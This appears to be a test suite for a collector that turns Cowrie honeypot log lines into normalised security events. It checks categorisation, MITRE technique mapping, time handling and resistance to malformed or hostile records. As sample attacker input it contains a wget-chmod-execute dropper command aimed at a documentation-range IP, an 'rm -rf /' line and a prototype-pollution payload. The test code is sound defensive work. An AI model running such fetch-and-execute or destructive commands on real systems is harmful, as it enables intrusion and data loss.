import { readFileSync } from 'node:fs'
import t from 'tap'
import { eventOf, reasonOf } from '../../../helpers/decoded.js'
import { checkMutations, JSON_JUNK } from '../../../helpers/mutations.js'
import type { SensorEvent } from '../../../../schemas/event.js'
import { decodeCowrie as decodeCowrieWith } from '../../../../services/collector/decode/cowrie.js'
import type { DecodeContext } from '../../../../services/collector/decode/decoded.js'

/** At the default limits (QALQAN_COLLECTOR_MAX_DEPTH=32), from a sensor in Almaty. */
const AT: DecodeContext = { maxDepth: 32, receivedAt: new Date('2024-03-14T05:00:00.000Z'), timeZone: 'Asia/Almaty' }
const decodeCowrie = (record: string, context: Partial<DecodeContext> = {}) =>
  decodeCowrieWith(record, { ...AT, ...context })

function fixture(name: string): string[] {
  return readFileSync(new URL(`../../../fixtures/sensors/${name}`, import.meta.url), 'utf8')
    .split('\n')
    .filter((line) => line !== '')
}

/** One Cowrie log line with the shared fields, as Cowrie writes it. */
function logLine(eventid: string, fields: Record<string, unknown> = {}): string {
  return JSON.stringify({
    eventid,
    message: 'a human-readable message',
    sensor: 'kz-hp-almaty-01',
    timestamp: '2025-03-01T03:15:30.123456Z',
    src_ip: '203.0.113.55',
    session: 'a1b2c3d4e5f6',
    ...fields,
  })
}

t.test('a failed login becomes the canonical fields, without the credentials', async (t) => {
  const event = eventOf(t, decodeCowrie(logLine('cowrie.login.failed', { username: 'root', password: 'S3cr3t-Pa55' })))
  t.same(event, {
    occurred_at: '2025-03-01T03:15:30.123456Z',
    category: 'bruteforce',
    severity: 2,
    signature: 'login failed',
    signature_id: 'cowrie.login.failed',
    mitre_technique: 'T1110.001',
    src_ip: '203.0.113.55',
    protocol: 'tcp',
    count: 1,
    device: 'kz-hp-almaty-01',
  })
  t.notMatch(JSON.stringify(event), /S3cr3t|root/, 'neither the password nor the username is carried')
})

t.test("the time is the record's own, whatever the receive time, zone and envelope time given", async (t) => {
  const decoded = decodeCowrie(logLine('cowrie.login.failed'))
  t.equal(decoded.kind === 'event' ? decoded.timeSource : undefined, 'event')
  const elsewhere = decodeCowrie(logLine('cowrie.login.failed'), {
    receivedAt: new Date('2031-07-01T00:00:00.000Z'),
    timeZone: 'America/Los_Angeles',
    envelopeTime: new Date('2020-01-01T00:00:00.000Z'),
  })
  t.same(elsewhere, decoded)
})

t.test('each attack step has its category, severity, signature and technique', async (t) => {
  const cases: Array<[string, Record<string, unknown>, Partial<SensorEvent>]> = [
    [
      'cowrie.session.connect',
      { src_port: 50112, dst_ip: '192.0.2.10', dst_port: 22, protocol: 'ssh' },
      {
        category: 'scan',
        severity: 1,
        signature: 'session connect',
        src_port: 50112,
        dst_ip: '192.0.2.10',
        dst_port: 22,
        protocol: 'ssh',
      },
    ],
    [
      'cowrie.login.failed',
      { username: 'admin', password: 'admin' },
      { category: 'bruteforce', severity: 2, signature: 'login failed', mitre_technique: 'T1110.001' },
    ],
    [
      'cowrie.login.success',
      { username: 'root', password: 'admin' },
      { category: 'bruteforce', severity: 4, signature: 'login succeeded', mitre_technique: 'T1110' },
    ],
    [
      'cowrie.command.input',
      { input: 'uname -a' },
      { category: 'exploit', severity: 3, signature: 'command: uname -a', mitre_technique: 'T1059' },
    ],
    [
      'cowrie.session.file_download',
      { url: 'http://198.51.100.23/bins/x86', shasum: 'ab', outfile: 'var/x' },
      {
        category: 'malware',
        severity: 4,
        signature: 'file download: http://198.51.100.23/bins/x86',
        mitre_technique: 'T1105',
      },
    ],
    [
      'cowrie.session.file_upload',
      { filename: 'sshd', shasum: 'cd', outfile: 'var/y' },
      { category: 'malware', severity: 4, signature: 'file upload: sshd', mitre_technique: 'T1105' },
    ],
    [
      'cowrie.direct-tcpip.request',
      { dst_ip: '198.51.100.250', dst_port: 25, src_port: 0 },
      {
        category: 'policy_violation',
        severity: 2,
        signature: 'direct-tcpip request',
        mitre_technique: 'T1090',
        dst_ip: '198.51.100.250',
        dst_port: 25,
      },
    ],
  ]
  for (const [eventid, fields, expected] of cases) {
    const event = eventOf(t, decodeCowrie(logLine(eventid, fields)))
    t.has(event, { ...expected, signature_id: eventid, src_ip: '203.0.113.55', count: 1 }, eventid)
  }
  t.notOk(
    'mitre_technique' in eventOf(t, decodeCowrie(logLine('cowrie.session.connect'))),
    'a connection has no technique',
  )
})

t.test('attacker-chosen text in the signature is cut short; without it the bare label', async (t) => {
  const command = eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: `echo ${'A'.repeat(100_000)}` })))
  t.equal(command.signature, `command: echo ${'A'.repeat(195)}`)
  const url = eventOf(
    t,
    decodeCowrie(logLine('cowrie.session.file_download', { url: `http://198.51.100.23/${'b'.repeat(5000)}` })),
  )
  t.equal(url.signature.length, 'file download: '.length + 400)
  t.equal(
    eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: `${'x'.repeat(199)}😀` }))).signature,
    `command: ${'x'.repeat(199)}`,
    'a surrogate pair is not split',
  )
  t.equal(eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: '' }))).signature, 'command')
  t.equal(eventOf(t, decodeCowrie(logLine('cowrie.command.input'))).signature, 'command')
  t.equal(eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: ['ls'] }))).signature, 'command')
  t.equal(eventOf(t, decodeCowrie(logLine('cowrie.session.file_download', { url: null }))).signature, 'file download')
  t.equal(
    eventOf(
      t,
      decodeCowrie(logLine('cowrie.session.file_download', { url: undefined, destfile: '/root/.ssh/authorized_keys' })),
    ).signature,
    'file download: /root/.ssh/authorized_keys',
    'output redirected into a file names the file',
  )
  t.equal(eventOf(t, decodeCowrie(logLine('cowrie.session.file_upload', { filename: 7 }))).signature, 'file upload')
  t.equal(
    eventOf(t, decodeCowrie(logLine('cowrie.command.input', { input: 'rm -rf /\n\u0000' }))).signature,
    'command: rm -rf /\n\u0000',
    'control characters are kept as text',
  )
})

t.test("T-Pot's dest_ip and dest_port are accepted; dst_* wins when both are present", async (t) => {
  t.has(eventOf(t, decodeCowrie(logLine('cowrie.session.connect', { dest_ip: '192.0.2.10', dest_port: 22 }))), {
    dst_ip: '192.0.2.10',
    dst_port: 22,
  })
  t.has(
    eventOf(
      t,
      decodeCowrie(
        logLine('cowrie.session.connect', {
          dst_ip: '192.0.2.11',
          dst_port: 2222,
          dest_ip: '192.0.2.10',
          dest_port: 22,
        }),
      ),
    ),
    { dst_ip: '192.0.2.11', dst_port: 2222 },
  )
  const bare = eventOf(t, decodeCowrie(logLine('cowrie.login.failed')))
  t.notOk('dst_ip' in bare || 'dst_port' in bare || 'src_port' in bare, 'a login names no ports')
})

t.test('protocol: the protocol field, else the session number, else tcp', async (t) => {
  const protocol = (fields: Record<string, unknown>) =>
    eventOf(t, decodeCowrie(logLine('cowrie.session.connect', fields))).protocol
  t.equal(protocol({ protocol: 'ssh' }), 'ssh')
  t.equal(protocol({ protocol: 'Telnet' }), 'telnet')
  t.equal(protocol({ protocol: 'ssh', sessionno: 'T3' }), 'ssh', 'the field wins')
  t.equal(protocol({ sessionno: 'S12' }), 'ssh')
  t.equal(protocol({ sessionno: 'T41' }), 'telnet')
  t.equal(protocol({ sessionno: 'X1' }), 'tcp')
  t.equal(protocol({ sessionno: 12 }), 'tcp')
  t.equal(protocol({ protocol: '' }), 'tcp')
  t.equal(protocol({ protocol: 22 }), 'tcp')
  t.equal(protocol({}), 'tcp')
  t.match(
    reasonOf(t, decodeCowrie(logLine('cowrie.session.connect', { protocol: 'ssh over carrier pigeon' })), 'invalid'),
    /^protocol:/,
  )
})

t.test("timestamps: Z and +0500 (Cowrie without TZ=UTC) are accepted; none is read in the sensor's zone", async (t) => {
  const at = (timestamp: unknown) => decodeCowrie(logLine('cowrie.login.failed', { timestamp }))
  t.equal(eventOf(t, at('2025-03-01T03:15:30.123456Z')).occurred_at, '2025-03-01T03:15:30.123456Z')
  t.equal(eventOf(t, at('2025-03-01T08:15:30.123456+0500')).occurred_at, '2025-03-01T08:15:30.123456+05:00')
  t.equal(eventOf(t, at('2025-03-01T08:15:30.123456+05:00')).occurred_at, '2025-03-01T08:15:30.123456+05:00')
  t.equal(eventOf(t, at('2025-03-01T08:15:30.123456')).occurred_at, '2025-03-01T03:15:30.123Z', 'Almaty, UTC+5')
  t.equal(
    eventOf(t, at('2024-02-29T23:30:00.000412')).occurred_at,
    '2024-02-29T17:30:00.000Z',
    'Almaty shows 23:30 on 29 February 2024 twice: the first, at UTC+6',
  )
  const inLosAngeles = decodeCowrie(logLine('cowrie.login.failed', { timestamp: '2025-03-01T08:15:30.123456' }), {
    timeZone: 'America/Los_Angeles',
  })
  t.equal(eventOf(t, inLosAngeles).occurred_at, '2025-03-01T16:15:30.123Z', 'Los Angeles, UTC-8 in March')
  t.match(reasonOf(t, at('2025-02-29T08:15:30'), 'invalid'), /^timestamp: "2025-02-29T08:15:30" is not a calendar date/)
  t.match(reasonOf(t, at('2025-13-01T08:15:30Z'), 'invalid'), /^occurred_at:/)
  t.match(reasonOf(t, at(1740798930.123), 'invalid'), /^timestamp: expected an ISO 8601 time, got 1740798930\.123/)
  t.match(reasonOf(t, at(undefined), 'invalid'), /got nothing/)
  t.match(reasonOf(t, at([]), 'invalid'), /got an array/)
  t.match(reasonOf(t, at({ toString: 1 }), 'invalid'), /got an object/)
})

t.test('the session bookkeeping and unknown event ids are skipped, naming the eventid', async (t) => {
  const skipped = [
    'cowrie.client.version',
    'cowrie.client.kex',
    'cowrie.client.fingerprint',
    'cowrie.client.size',
    'cowrie.client.var',
    'cowrie.session.params',
    'cowrie.session.closed',
    'cowrie.log.closed',
    'cowrie.command.failed',
    'cowrie.session.file_download.failed',
    'cowrie.direct-tcpip.data',
    'cowrie.virustotal.scanfile',
    'cowrie.some.future.event',
    'COWRIE.LOGIN.FAILED',
    'constructor',
    '__proto__',
  ]
  for (const eventid of skipped) {
    // Skipping needs no timestamp or address: those lines are not events.
    t.match(
      reasonOf(t, decodeCowrie(JSON.stringify({ eventid })), 'skipped'),
      `eventid ${JSON.stringify(eventid)}`,
      eventid,
    )
  }
  t.ok(
    reasonOf(t, decodeCowrie(JSON.stringify({ eventid: 'z'.repeat(50_000) })), 'skipped').length < 200,
    'a long eventid is cut in the reason',
  )
})

t.test('every line of the fixture', async (t) => {
  const expected: Array<Partial<SensorEvent> | string> = [
    { category: 'scan', severity: 1, protocol: 'ssh', src_port: 50112, dst_ip: '192.0.2.10', dst_port: 22 },
    'cowrie.client.version',
    'cowrie.client.kex',
    { category: 'bruteforce', severity: 2, occurred_at: '2025-03-01T03:15:30.123456Z' },
    { category: 'bruteforce', severity: 2 },
    { category: 'bruteforce', severity: 4, signature: 'login succeeded' },
    'cowrie.client.size',
    'cowrie.session.params',
    { category: 'exploit', severity: 3, signature: 'command: uname -a' },
    {
      category: 'exploit',
      severity: 3,
      signature:
        'command: cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.23/bins/x86; chmod 777 x86; ./x86 ssh.root',
    },
    { category: 'malware', severity: 4, signature: 'file download: http://198.51.100.23/bins/x86' },
    'cowrie.command.failed',
    'cowrie.log.closed',
    'cowrie.session.closed',
    { category: 'scan', protocol: 'telnet', dst_port: 23, occurred_at: '2025-03-01T08:20:11.502211+05:00' },
    { category: 'bruteforce', src_ip: '198.51.100.201', occurred_at: '2025-03-01T08:20:13.118702+05:00' },
    { category: 'policy_violation', dst_ip: '198.51.100.250', dst_port: 25, src_ip: '203.0.113.55' },
    { category: 'malware', signature: 'file upload: sshd' },
    { category: 'scan', src_ip: '2001:db8:7:1::99', dst_ip: '192.0.2.10', dst_port: 22, protocol: 'tcp' },
    { category: 'scan', protocol: 'telnet', dst_port: 2223 },
    { category: 'scan', protocol: 'tcp', dst_port: 2222 },
  ]
  const lines = fixture('cowrie.json')
  t.equal(lines.length, expected.length, 'one expectation per line')
  lines.forEach((line, i) => {
    const want = expected[i]
    const decoded = decodeCowrie(line)
    if (typeof want === 'string') t.match(reasonOf(t, decoded, 'skipped'), want, `line ${i + 1}: skipped`)
    else if (want !== undefined) t.has(eventOf(t, decoded), want, `line ${i + 1}`)
  })
})

t.test('every line of the bad fixture is invalid, with its reason', async (t) => {
  const reasons = [
    /not valid JSON/,
    /^timestamp: expected an ISO 8601 time, got 1740816931\.000412$/,
    /^src_ip:/,
    /^src_port:/,
    /^eventid: missing/,
    /not a JSON object but an array/,
  ]
  const lines = fixture('cowrie-bad.json')
  t.equal(lines.length, reasons.length, 'one expectation per line')
  for (const [i, line] of lines.entries())
    t.match(reasonOf(t, decodeCowrie(line), 'invalid'), reasons[i] ?? /./, `line ${i + 1}`)
})

t.test('malformed and hostile records are invalid, never a throw', async (t) => {
  const records: Array<[string, RegExp]> = [
    ['', /not valid JSON/],
    ['login attempt [root/123456] failed', /not valid JSON/],
    ['null', /not a JSON object but null/],
    ['"cowrie.login.failed"', /not a JSON object/],
    ['123', /not a JSON object but 123/],
    [`[${logLine('cowrie.login.failed')}]`, /an array/],
    [`${'{"a":'.repeat(50)}1${'}'.repeat(50)}`, /deeper than/],
    ['{"__proto__":{"eventid":"cowrie.login.failed"}}', /^eventid: missing/],
    ['{"eventid":{"toString":1}}', /^eventid: missing/],
    [JSON.stringify({ eventid: ['cowrie.login.failed'] }), /^eventid: missing/],
    [JSON.stringify({ eventid: '' }), /^eventid: missing/],
    [logLine('cowrie.login.failed', { src_ip: '203.0.113.555' }), /^src_ip:/],
    [logLine('cowrie.login.failed', { src_ip: { toString: 1 } }), /^src_ip:/],
    [logLine('cowrie.login.failed', { src_ip: null }), /^src_ip:/],
    [logLine('cowrie.session.connect', { src_port: 70000 }), /^src_port:/],
    [logLine('cowrie.session.connect', { dst_port: -22 }), /^dst_port:/],
    [
      '{"eventid":"cowrie.session.connect","timestamp":"2025-03-01T03:15:30Z","src_ip":"203.0.113.55","dst_port":1e400}',
      /^dst_port:/,
    ],
    [logLine('cowrie.session.connect', { dest_ip: 'honeypot.local' }), /^dst_ip:/],
    [logLine('cowrie.session.connect', { dst_ip: 42 }), /^dst_ip:/],
  ]
  for (const [record, reason] of records)
    t.match(reasonOf(t, decodeCowrie(record), 'invalid'), reason, record.slice(0, 80))
  const smuggled = logLine('cowrie.login.failed').replace(
    '{"eventid"',
    '{"__proto__":{"severity":1,"sector":"finance"},"eventid"',
  )
  t.same(
    eventOf(t, decodeCowrie(smuggled)),
    eventOf(t, decodeCowrie(logLine('cowrie.login.failed'))),
    '__proto__ in the text adds nothing',
  )
  const extra = logLine('cowrie.login.failed', {
    category: 'ddos',
    severity: 1,
    count: 500,
    event_id: 'x',
    signature: 'spoofed',
    sector: 'finance',
  })
  t.has(
    eventOf(t, decodeCowrie(extra)),
    { category: 'bruteforce', severity: 2, count: 1, signature: 'login failed' },
    'canonical field names in the log change nothing',
  )
  t.equal(
    decodeCowrie(logLine('cowrie.login.failed', { password: 'p'.repeat(2_000_000) })).kind,
    'event',
    'a huge field is ignored',
  )
})

t.test('no mutation of a real line makes the decoder throw or emit a bad event', async (t) => {
  checkMutations(t, decodeCowrie, [...fixture('cowrie.json'), ...fixture('cowrie-bad.json')], JSON_JUNK, 7)
})

t.test('a lone surrogate (a JSON escape of half a pair) is refused naming the field', async (t) => {
  t.same(decodeCowrie(logLine('cowrie.command.input', { input: 'uname -a\udc00' })), {
    kind: 'invalid',
    reason: 'signature: not well-formed Unicode (a lone surrogate)',
  })
  t.same(decodeCowrie(logLine('cowrie.session.file_download', { url: 'http://\ud800.example/x' })), {
    kind: 'invalid',
    reason: 'signature: not well-formed Unicode (a lone surrogate)',
  })
  t.equal(decodeCowrie(logLine('cowrie.command.input', { input: 'echo \ud83d\ude00' })).kind, 'event')
})

t.test("the honeypot's sensor name is the device; anything but text is left out", async (t) => {
  const deviceOf = (sensor: unknown) => eventOf(t, decodeCowrie(logLine('cowrie.login.failed', { sensor }))).device
  t.equal(deviceOf('kz-hp-almaty-01'), 'kz-hp-almaty-01')
  t.equal(deviceOf(' hp-02 '), 'hp-02', 'trimmed')
  for (const sensor of [undefined, '', '  ', 42, true, null, { name: 'hp' }, ['hp']])
    t.equal(deviceOf(sensor), undefined, `${JSON.stringify(sensor)}: no device, the event stands`)
  t.equal(deviceOf('s'.repeat(10_000)), 's'.repeat(255), 'cut to the schema limit')
  t.equal(deviceOf(`${'s'.repeat(254)}\u{1F36F}`), 's'.repeat(254), 'without splitting a pair')
  t.same(decodeCowrie(logLine('cowrie.login.failed', { sensor: 'hp-\ud800' })), {
    kind: 'invalid',
    reason: 'device: not well-formed Unicode (a lone surrogate)',
  })
  t.equal(
    eventOf(t, decodeCowrie(logLine('cowrie.session.connect', { sensor: 'hp-03' }))).device,
    'hp-03',
    'every step',
  )
})
